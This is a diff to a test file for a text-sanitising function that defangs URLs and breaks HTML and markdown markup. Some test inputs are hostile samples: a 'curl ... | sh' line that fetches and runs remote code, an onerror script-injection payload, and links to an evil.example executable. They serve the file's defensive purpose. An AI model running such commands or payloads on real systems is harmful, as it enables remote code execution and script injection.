@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest';
-import { neutralise } from './neutralise.ts';
+import { neutralise, neutraliseExceptAddresses } from './neutralise.ts';
 
 describe('neutralise', () => {
   test.each([
@@ -7,8 +7,11 @@ describe('neutralise', () => {
     String.raw`c:\new\temp\users\bdadmin`,
     '/home/user2/test/index.html?wpdmdl=8842',
     'Prüfung – 文件 – תיק – ملف – 🦀',
-    '{"a": [1, "%TEMP%"], `b`: <c>}',
-    'GZ-1 [gz-1] (GZ-1) [ GZ-1]',
+    '{"a": [1, "%TEMP%"], `b`: < c >}',
+    'GZ-1 (gz-1) [ GZ-1] [1, 2] a[b] (c) !x 1 <2 && x & y;',
+    'bo@contoso.example',
+    String.raw`\\server\share\setup.v1.exe`,
+    'cmd //c dir',
     '',
   ])('leaves %j as it is', (text) => {
     expect(neutralise(text)).toBe(text);
@@ -38,6 +41,7 @@ describe('neutralise', () => {
 
   test.each([
     ['[GZ-6690e2c5]', '(GZ-6690e2c5]'],
+    ['[gz-1] [Gz-2] [abc1-2] [a-z]', '(gz-1] (Gz-2] (abc1-2] (a-z]'],
     ['x [GZ-1 #2] [GZ-1 #3]', 'x (GZ-1 #2] (GZ-1 #3]'],
     ['[[GZ-1]', '[(GZ-1]'],
     ['[\u200BGZ-1]', String.raw`[\u200bGZ-1]`],
@@ -45,5 +49,36 @@ describe('neutralise', () => {
     ['[GZ\u00AD-1]', String.raw`[GZ\u00ad-1]`],
   ])('leaves no mark in %j', (text, shown) => {
     expect(neutralise(text)).toBe(shown);
+    expect(neutraliseExceptAddresses(text)).toBe(shown);
+  });
+
+  test.each([
+    ['[call us](tel:1)', '[call us] (tel:1)'],
+    ['![x](p.png)', '! [x] (p.png)'],
+    ['<img src=x onerror=alert(1)>', '< img src=x onerror=alert(1)>'],
+    ['<b>Clean</b><!-- x --><?x', '< b>Clean< /b>< !-- x -->< ?x'],
+    ['&lt;b&gt; &#x202e; &rlm', '& lt;b& gt; & #x202e; & rlm'],
+    ['a][GZ-1](x', 'a] (GZ-1] (x'],
+  ])('breaks the markup of %j', (text, shown) => {
+    expect(neutralise(text)).toBe(shown);
+    expect(neutraliseExceptAddresses(text)).toBe(shown);
+  });
+
+  test.each([
+    ['https://evil.example/x.exe?y=1.2', 'hxxps://evil[.]example/x.exe?y=1.2'],
+    ['HTTP://user:p.w@evil.example:8080', 'hxxp://user:p[.]w@evil[.]example:8080'],
+    ['curl http://10.0.0.9/a|sh', 'curl hxxp://10[.]0[.]0[.]9/a|sh'],
+    ['(https://a.example,http://b.example)', '(hxxps://a[.]example,hxxp://b[.]example)'],
+    ['https://a.example/?to=https://b.example', 'hxxps://a[.]example/?to=hxxps://b[.]example'],
+    ['ftp://evil.example/x file://evil.example/y', 'ftp[:]//evil[.]example/x file[:]//evil[.]example/y'],
+    ['www.evil.example //evil.example/x', 'www[.]evil[.]example //evil[.]example/x'],
+    ['mailto:a@evil.example', 'mailto[:]a@evil.example'],
+    ['https://evil.(x) http://a!.b', 'hxxps://evil[.] (x) hxxp://a! [.]b'],
+  ])('defangs %j', (text, shown) => {
+    expect(neutralise(text)).toBe(shown);
+  });
+
+  test('leaves addresses where it is asked to', () => {
+    expect(neutraliseExceptAddresses('https://evil.example/x')).toBe('https://evil.example/x');
   });
 });
